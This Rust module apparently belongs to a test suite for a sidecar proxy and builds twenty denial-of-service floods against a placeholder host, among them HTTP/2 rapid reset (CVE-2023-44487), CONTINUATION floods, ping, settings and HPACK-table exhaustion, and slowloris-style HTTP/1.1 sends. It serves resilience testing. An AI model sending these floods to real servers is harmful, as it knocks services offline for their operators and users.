//! More of something than anybody needs, on one connection: what an agent may try to use a sidecar up.

use std::io::{self, Read, Write};
use std::iter::repeat_n;

use crate::raw::{PREFACE, fields, frame};

/// A flood.
pub struct Flood {
    /// Its name.
    pub name: &'static str,
    /// HTTP/2, or HTTP/1.1.
    pub http2: bool,
    /// Whether what comes back is read.
    pub reads: bool,
    /// Milliseconds between two parts.
    pub pause: u64,
    /// What is sent, in parts.
    pub parts: fn() -> Parts,
}

/// Parts of a flood.
pub type Parts = Box<dyn Iterator<Item = Vec<u8>>>;

/// How a flood ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum End {
    /// All of it was taken.
    Taken,
    /// The connection was closed before.
    Closed,
    /// Nothing more was taken before.
    Stalled,
}

impl Flood {
    /// Sends it, and says how it ended and how many bytes of it were taken.
    ///
    /// # Errors
    /// What is neither of its ends.
    pub fn send(&self, stream: &mut (impl Read + Write)) -> io::Result<(End, usize)> {
        let mut taken = 0;
        for part in (self.parts)() {
            let written = stream.write_all(&part).and_then(|()| stream.flush());
            let read = written.and_then(|()| if self.reads { drain(stream) } else { Ok(()) });
            match read.map_err(|error| error.kind()) {
                Ok(()) => taken += part.len(),
                Err(io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
                    return Ok((End::Stalled, taken));
                }
                Err(
                    io::ErrorKind::BrokenPipe
                    | io::ErrorKind::ConnectionReset
                    | io::ErrorKind::ConnectionAborted
                    | io::ErrorKind::UnexpectedEof,
                ) => return Ok((End::Closed, taken)),
                Err(other) => return Err(other.into()),
            }
            std::thread::sleep(std::time::Duration::from_millis(self.pause));
        }
        Ok((End::Taken, taken))
    }
}

/// Reads what is there.
fn drain(stream: &mut impl Read) -> io::Result<()> {
    let mut chunk = [0; 16 * 1024];
    loop {
        match stream.read(&mut chunk).map_err(|error| error.kind()) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(length) if length < chunk.len() => return Ok(()),
            Ok(_) => {}
            Err(io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => return Ok(()),
            Err(other) => return Err(other.into()),
        }
    }
}

/// Name that all of them are sent to.
pub const HOST: &str = "api.shop.example";

/// What a flood asks for where it is to be permitted.
pub const PERMITTED: &str = "/v1/flood";

/// All of them.
pub const FLOODS: [Flood; 20] = [
    // CVE-2023-44487.
    http2("resets of refused requests", true, || {
        streams(20_000, |id| {
            [head(id, "DELETE", 5), frame(3, 0, id, &CANCEL)].concat()
        })
    }),
    http2("resets of permitted requests", true, || {
        streams(4_000, |id| {
            [head(id, "GET", 5), frame(3, 0, id, &CANCEL)].concat()
        })
    }),
    http2("resets provoked by a window of nothing", true, || {
        streams(20_000, |id| {
            [head(id, "POST", 4), frame(8, 0, id, &[0; 4])].concat()
        })
    }),
    // CVE-2024-27316 and its likes.
    http2("one head that never ends", true, || {
        let more = frame(
            9,
            0,
            1,
            &fields(&repeat_n(("x-more", "v".repeat(60)), 230).collect::<Vec<_>>()),
        );
        begun(head(1, "GET", 1), repeat_n(more, 4_000))
    }),
    http2("empty parts of a head", true, || {
        begun(
            head(1, "GET", 1),
            repeat_n(frame(9, 0, 1, &[]).repeat(100), 400),
        )
    }),
    http2("pings", true, || {
        begun(
            Vec::new(),
            repeat_n(frame(6, 0, 0, &[7; 8]).repeat(100), 400),
        )
    }),
    http2("pings, their answers unread", false, || {
        begun(
            Vec::new(),
            repeat_n(frame(6, 0, 0, &[7; 8]).repeat(1_000), 4_000),
        )
    }),
    http2("settings", true, || {
        begun(
            Vec::new(),
            repeat_n(frame(4, 0, 0, &[0, 3, 0, 0, 0, 9]).repeat(100), 400),
        )
    }),
    http2("settings, their answers unread", false, || {
        begun(
            Vec::new(),
            repeat_n(frame(4, 0, 0, &[0, 3, 0, 0, 0, 9]).repeat(1_000), 4_000),
        )
    }),
    http2("empty data", true, || {
        begun(
            head(1, "POST", 4),
            repeat_n(frame(0, 0, 1, &[]).repeat(100), 400),
        )
    }),
    http2("windows that grow by one", true, || {
        begun(
            Vec::new(),
            repeat_n(frame(8, 0, 0, &[0, 0, 0, 1]).repeat(100), 400),
        )
    }),
    // As many as may be open at once, and time for their answers to come.
    Flood {
        pause: 10,
        ..http2("answers that nobody takes", false, || {
            let shut = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
            begun(shut, (0..100_u32).map(|at| head(at * 2 + 1, "GET", 5)))
        })
    },
    http2("a table of headers without end", true, || {
        let endless = frame(4, 0, 0, &[0, 1, 0xff, 0xff, 0xff, 0xff]);
        begun(endless, (0..2_000_u32).map(|at| tabled(at * 2 + 1)))
    }),
    http2("streams that are never ended", true, || {
        streams(20_000, |id| head(id, "POST", 4))
    }),
    http2("priorities", true, || {
        begun(
            Vec::new(),
            (0..400_u32).map(|at| frame(2, 0, at * 2 + 1, &[0, 0, 0, 0, 9]).repeat(100)),
        )
    }),
    http2("frames that nobody knows", true, || {
        begun(Vec::new(), repeat_n(frame(0xbe, 0, 0, &[7; 16_000]), 200))
    }),
    Flood {
        pause: 25,
        ..http1("a head byte by byte", true, || {
            let head = "DELETE /v1/slow HTTP/1.1\r\nhost: api.shop.example\r\nx-more: ".bytes();
            Box::new(head.chain(repeat_n(b'x', 2_000)).map(|byte| vec![byte]))
        })
    },
    Flood {
        pause: 25,
        ..http1("a body byte by byte", true, || {
            let head =
                "POST /v1/form HTTP/1.1\r\nhost: api.shop.example\r\ncontent-length: 4000\r\n\r\n";
            Box::new(
                [head.into()]
                    .into_iter()
                    .chain(repeat_n(b"x".to_vec(), 2_000)),
            )
        })
    },
    http1("very many headers", true, || {
        let head = b"GET /v1/x HTTP/1.1\r\nhost: api.shop.example\r\n".to_vec();
        Box::new(
            [head]
                .into_iter()
                .chain(repeat_n(b"x: y\r\n".repeat(100), 4_000)),
        )
    }),
    http1("requests at once, their answers unread", false, || {
        let one = b"DELETE /v1/x HTTP/1.1\r\nhost: api.shop.example\r\n\r\n".repeat(100);
        Box::new(repeat_n(one, 4_000))
    }),
];

const CANCEL: [u8; 4] = [0, 0, 0, 8];

const fn http2(name: &'static str, reads: bool, parts: fn() -> Parts) -> Flood {
    Flood {
        name,
        http2: true,
        reads,
        pause: 0,
        parts,
    }
}

const fn http1(name: &'static str, reads: bool, parts: fn() -> Parts) -> Flood {
    Flood {
        http2: false,
        ..http2(name, reads, parts)
    }
}

fn begun(first: Vec<u8>, rest: impl Iterator<Item = Vec<u8>> + 'static) -> Parts {
    let preface = [PREFACE, &frame(4, 0, 0, &[]), &first].concat();
    Box::new([preface].into_iter().chain(rest))
}

/// So many streams, ten in a part.
fn streams(count: u32, one: fn(u32) -> Vec<u8>) -> Parts {
    let ten = move |at: u32| {
        (0..10)
            .flat_map(|nth| one((at * 10 + nth) * 2 + 1))
            .collect()
    };
    begun(Vec::new(), (0..count / 10).map(ten))
}

fn head(stream: u32, method: &str, flags: u8) -> Vec<u8> {
    let path = if method == "POST" {
        "/v1/form"
    } else {
        PERMITTED
    };
    let block = fields(&[
        (":method", method),
        (":scheme", "https"),
        (":authority", HOST),
        (":path", path),
    ]);
    frame(1, flags, stream, &block)
}

/// A head whose fields are kept in the table (RFC 7541 section 6.2.1), each with a name of its own.
fn tabled(stream: u32) -> Vec<u8> {
    let mut block = fields(&[
        (":method", "DELETE"),
        (":scheme", "https"),
        (":authority", HOST),
        (":path", "/v1/x"),
    ]);
    for nth in 0..8 {
        let mut field = fields(&[(format!("x-{stream}-{nth}"), "v".repeat(1_500))]);
        if let Some(first) = field.first_mut() {
            *first = 0x40;
        }
        block.extend(field);
    }
    frame(1, 5, stream, &block)
}
